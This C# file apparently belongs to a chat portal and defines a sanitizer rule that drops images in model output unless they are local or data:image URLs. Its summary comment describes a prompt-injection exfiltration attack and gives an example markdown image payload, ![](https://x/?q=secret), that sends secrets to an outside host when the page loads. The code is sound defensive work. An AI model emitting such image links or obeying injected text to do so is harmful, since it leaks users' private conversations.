using AngleSharp.Dom;
using Ganss.Xss;

namespace Portal.Web.Chat;

/// <summary>
/// A sanitizer rule for rendered model output: an image may come only from the portal itself (a path
/// such as <c>/favicon.svg</c>) or be a <c>data:image/...</c> URL. Any other image is dropped, because the
/// browser would fetch it at once: a prompt-injected <c>![](https://x/?q=secret)</c> leaks a conversation
/// without anyone clicking. The page's Content-Security-Policy (<c>img-src 'self' data:</c>) is the second fence.
/// </summary>
internal static class MarkdownImagePolicy
{
    public static void Apply(HtmlSanitizer sanitizer)
    {
        ArgumentNullException.ThrowIfNull(sanitizer);
        sanitizer.AllowedAttributes.Remove("srcset");

        // data: is not an allowed scheme for links; for an image's own src it is.
        sanitizer.FilterUrl += (_, e) =>
        {
            if (e.Tag is { TagName: "IMG" } && IsDataImage(e.OriginalUrl))
            {
                e.SanitizedUrl = e.OriginalUrl;
            }
        };
        sanitizer.PostProcessNode += (_, e) =>
        {
            if (e.Node is IElement { TagName: "IMG" } image && !IsAllowed(image.GetAttribute("src")))
            {
                image.Remove();
            }
        };
    }

    private static bool IsAllowed(string? src) =>
        src is { Length: > 0 } && (IsDataImage(src) || Identity.LocalReturnUrl.IsLocal(src));

    private static bool IsDataImage(string? url) =>
        url is not null && url.StartsWith("data:image/", StringComparison.OrdinalIgnoreCase);
}
